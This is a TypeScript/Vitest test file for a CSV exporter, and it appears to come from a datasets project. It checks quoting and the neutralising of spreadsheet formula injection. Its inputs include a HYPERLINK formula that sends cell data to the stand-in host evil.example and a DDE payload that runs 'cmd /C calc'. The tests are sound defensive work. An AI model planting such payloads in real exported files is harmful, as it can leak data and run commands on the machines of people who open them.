import { describe, expect, it } from 'vitest';
import { toCsv } from '../../src/datasets/csv.ts';

describe('toCsv', () => {
  it('quotes only what needs quoting and writes null as an empty cell', () => {
    const csv = toCsv(
      ['a', 'b', 'c'],
      [
        { a: 'plain', b: 12, c: null },
        { a: 'with, comma', b: 'say "hi"', c: 'two\nlines' },
        { a: ' padded', b: 0, c: false },
      ],
    );
    expect(csv).toBe('a,b,c\nplain,12,\n"with, comma","say ""hi""","two\nlines"\n" padded",0,false\n');
  });
});

describe('toCsv and formulas (issue 14, item 8)', () => {
  it('neutralises text cells a spreadsheet would run as a formula (OWASP: =, +, -, @, tab, carriage return)', () => {
    const csv = toCsv(
      ['title', 'outlet', 'n'],
      [
        { title: '=HYPERLINK("http://evil.example/?"&A1,"Click")', outlet: "@SUM(1+1)*cmd|' /C calc'!A0", n: -3 },
        { title: '+1', outlet: '-2', n: 0 },
        { title: '\tx', outlet: '\ry', n: 1.5 },
      ],
    );
    expect(csv).toBe(
      'title,outlet,n\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")","'@SUM(1+1)*cmd|' /C calc'!A0",-3\n` +
        `"'+1","'-2",0\n` +
        `"'\tx","'\ry",1.5\n`,
    );
  });

  it('leaves every other cell as it was, numbers included', () => {
    expect(toCsv(['a', 'b'], [{ a: 'a = b', b: -12 }])).toBe('a,b\na = b,-12\n');
  });
});

describe('the datasets files and formulas (issue 14, item 8)', () => {
  it('neutralise a formula in articles.csv and keep articles.json exact', async () => {
    const { serializeDatasets } = await import('../../src/datasets/serialize.ts');
    const title = '=HYPERLINK("http://evil.example/","Click")';
    const outlet = "@SUM(1+1)*cmd|' /C calc'!A0";
    const article = {
      id: '001',
      title,
      outlet,
      url: null,
      published: '2022-01-05',
      published_basis: 'stated',
      published_note: null,
      language: 'en',
      translated_from: null,
    };
    const files = serializeDatasets({ casualties: [], reactions: [], articles: [article] } as never);
    expect(files.get('articles.csv')).toContain(
      `"'=HYPERLINK(""http://evil.example/"",""Click"")","'@SUM(1+1)*cmd|' /C calc'!A0"`,
    );
    expect(JSON.parse(String(files.get('articles.json')))[0]).toMatchObject({ title, outlet });
  });
});
